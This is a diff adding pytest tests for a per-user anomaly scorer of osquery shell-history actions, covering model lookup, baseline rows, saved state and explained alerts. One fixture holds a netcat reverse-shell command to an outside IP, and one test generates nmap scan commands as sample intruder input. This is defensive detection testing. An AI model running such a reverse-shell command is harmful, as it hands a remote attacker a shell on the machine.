@@ -1,0 +1,219 @@
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import msgspec
+import pytest
+
+from anomaly.osquery import Action
+from anomaly.records import ReasonKind
+from anomaly.scoring import Scorer
+from anomaly.store import Store, Stored
+
+if TYPE_CHECKING:
+    from tests.conftest import Trained
+
+ALIEN = {"username": "alice", "command": "nc -e /bin/sh 203.0.113.9 4444"}
+
+
+def act(user: str = "alice", host: str = "ws1", *, baseline: bool = False, **columns: str) -> Action:
+    """Make an action."""
+    return Action(1_793_600_000, host, user, "shell_history", "added", columns, baseline)
+
+
+def test_a_user_without_a_model_gets_a_record_without_a_score(models: Path) -> None:
+    """Every action gives a record; without a model its figures are None and its state is ``none``."""
+    score = Scorer(Store(models).load).score("id", act("mallory"))
+    assert score is not None
+    assert (score.score, score.risk, score.surprise) == (None, None, None)
+    assert (score.model.algorithm, score.model.version, score.model.state) == (None, None, "none")
+
+
+def test_only_one_user(models: Path) -> None:
+    """A scorer of one user passes over everyone else, and over rows that name nobody."""
+    scorer = Scorer(Store(models).load, only="alice")
+    assert scorer.score("1", act("bob")) is None
+    assert scorer.score("2", act("host:ws1")) is None
+    assert scorer.score("3", act("alice")) is not None
+
+
+def test_nameless_rows_are_claimed(models: Path) -> None:
+    """Where the log names nobody, its rows are scored, and shown, as the user's."""
+    score = Scorer(Store(models).load, only="alice", claims=True).score("1", act("host:ws1", command="ls"))
+    assert score is not None
+    assert score.action.user == "alice"
+    assert score.score is not None
+
+
+def test_a_model_of_the_host_comes_first(models: Path) -> None:
+    """Where ``alice@ws1`` and ``alice`` both have models, the one of the host scores."""
+    store = Store(models)
+    stored = store.load("alice")
+    assert stored is not None
+    asked = []
+
+    def find(name: str) -> Stored | None:
+        asked.append(name)
+        return Stored(9, stored.model) if name == "alice@ws1" else store.load(name)
+
+    scorer = Scorer(find)
+    versions = [scorer.score("1", act(host=host, command="ls")) for host in ("ws1", "ws2")]
+    assert [score.model.version for score in versions if score] == [9, 1]
+    assert asked == ["alice@ws1", "alice@ws2", "alice"]
+
+
+def test_models_are_asked_for_once(models: Path) -> None:
+    """A name is looked up on disk once, whether it has a model or not."""
+    asked = []
+
+    def find(name: str) -> Stored | None:
+        asked.append(name)
+        return Store(models).load(name)
+
+    scorer = Scorer(find)
+    for user in ("alice", "mallory") * 50:
+        scorer.score("1", act(user, command="ls"))
+    assert sorted(asked) == ["alice", "alice@ws1", "mallory", "mallory@ws1"]
+
+
+def test_baseline_is_shown_and_not_judged(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
+) -> None:
+    """A baseline row has no score, and moves nothing: what follows scores as if it had not been there."""
+    plain, mixed = scorer(trained.models), scorer(trained.models)
+    for action in actions[100:160]:
+        expected = plain.score("1", action)
+        row = mixed.score("0", act(action.user, baseline=True, **ALIEN))
+        assert row is not None
+        assert (row.score, row.surprise, row.reasons) == (None, None, ())
+        assert row.model.state == "ready"
+        assert mixed.score("1", action) == expected
+
+
+def test_an_intruder_stands_out_and_is_explained(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
+) -> None:
+    """Commands that a user never gave raise the risk of the window above all of the user's own, with reasons."""
+    mine = scorer(trained.models)
+    own = [score.risk or 0.0 for action in actions[-400:] if (score := mine.score("1", action))]
+    seen = [mine.score("2", act(**ALIEN | {"command": f"nmap -p{n} 10.9.{n}.1"})) for n in range(40)]
+    last = seen[-1]
+    assert last is not None
+    assert (last.risk or 0.0) > max(own)
+    first = next(reason for reason in last.reasons if reason.kind is ReasonKind.NEW_VALUE)
+    assert (first.field, first.value, first.seen) == ("command", "nmap -p39 10.9.39.1", 0)
+    assert first.of > 0
+    assert set(first.expected) <= {"git status", "git diff", "pytest -q", "vim src/app.py", "ls", "make test"}
+
+
+def test_usual_actions_are_not_explained(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
+) -> None:
+    """Reasons are given from a score of 10 or a risk of 20 on, and to nothing less."""
+    mine = scorer(trained.models)
+    scores = [score for action in actions if (score := mine.score("1", action)) and score.score is not None]
+    usual = [s for s in scores if (s.score or 0) < 10 and (s.risk or 0) < 20]
+    assert usual
+    assert not any(score.reasons for score in usual)
+    assert any(score.reasons for score in scores)
+
+
+def test_most_actions_of_training_are_usual(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
+) -> None:
+    """Ten points are one action in ten: of what training itself saw, more than half scores less."""
+    mine = scorer(trained.models)
+    scores = [score.score for action in actions if (score := mine.score("1", action)) and score.score is not None]
+    assert sum(score < 10 for score in scores) > len(scores) / 2
+
+
+def test_any_action_can_be_scored(trained: Trained, scorer: Callable[[Path], Scorer]) -> None:
+    """Queries, verbs and columns that training never saw, and none at all, give a finite score."""
+    mine = scorer(trained.models)
+    odd = [
+        act(),
+        act(**{"": "", "\0": "\ud800", "path": "x" * 100_000}),
+        Action(0, "", "alice", "", "", {}),
+        Action(253_402_300_799, "h" * 10_000, "alice", "q" * 10_000, "removed", {str(n): str(n) for n in range(2000)}),
+    ]
+    for action in odd * 60:
+        score = mine.score("1", action)
+        assert score is not None
+        assert score.score is not None
+        assert 0 <= score.score <= 100
+        assert 0 <= (score.risk or 0) <= 100
+
+
+def states(saved: dict[str, object]) -> Iterator[dict[str, object]]:
+    """Yield saved states that something has happened to."""
+    for user in ([], None, 5, "x", {}, {"model": None}):
+        yield {"alice": user}
+    good = saved["alice"]
+    assert isinstance(good, dict)
+    yield {"alice": {**good, "model": ["LSTM", 1, "another log"]}}
+    yield {"alice": {**good, "risk": "high"}}
+    yield {"alice": {**good, "risk": []}}
+    for state in (None, [], {}, {"window": None}, {"window": [[5000]]}, {"window": [[-1]]}, {"hidden": [1.0]}):
+        yield {"alice": {**good, "state": state}}
+
+
+def test_damaged_state_is_left_aside(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
+) -> None:
+    """A saved state that is another model's, or is damaged, is replaced by the end of training."""
+    first = scorer(trained.models)
+    for action in actions[:50]:
+        first.score("1", action)
+    expected = scorer(trained.models).score("1", actions[200])
+    for saved in states(json.loads(json.dumps(first.export()))):
+        mine = scorer(trained.models)
+        mine.restore(saved)
+        assert mine.score("1", actions[200]) == expected
+
+
+def test_users_who_do_not_act_keep_their_state(models: Path, actions: list[Action]) -> None:
+    """What was restored for a user and not used by then is exported again, unchanged."""
+    first = Scorer(Store(models).load)
+    for action in actions[:50]:
+        first.score("1", action)
+    saved = msgspec.json.decode(msgspec.json.encode(first.export()))
+    second = Scorer(Store(models).load)
+    second.restore(saved)
+    second.score("1", act("alice", command="ls"))
+    again = second.export()
+    assert again["bob"] == saved["bob"]
+    assert again["alice"] != saved["alice"]
+
+
+def test_a_state_is_of_one_version(models: Path, actions: list[Action]) -> None:
+    """After a new training the old state is not gone on from, even if the actions are the same."""
+    store = Store(models)
+    first = Scorer(store.load)
+    for action in actions[-300:]:
+        first.score("1", action)
+    saved = first.export()
+    stored = store.load("alice")
+    assert stored is not None
+    store.save("alice", stored.model)
+    second, fresh = Scorer(store.load), Scorer(store.load)
+    second.restore(saved)
+    assert second.score("1", actions[200]) == fresh.score("1", actions[200])
+
+
+@pytest.mark.parametrize("reverse", [False, True])
+def test_users_do_not_touch_each_other(
+    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer], *, reverse: bool
+) -> None:
+    """A user's scores are the same whoever else acts in between, in whatever order."""
+    alone, mixed = scorer(trained.models), scorer(trained.models)
+    own = [action for action in actions if action.user == "alice"][:200]
+    other = [action for action in actions if action.user == "bob"][:200]
+    expected = [alone.score("1", action) for action in own]
+    found = []
+    for mine, theirs in zip(own, reversed(other) if reverse else other, strict=False):
+        mixed.score("2", theirs)
+        found.append(mixed.score("1", mine))
+    assert found == expected[: len(found)]
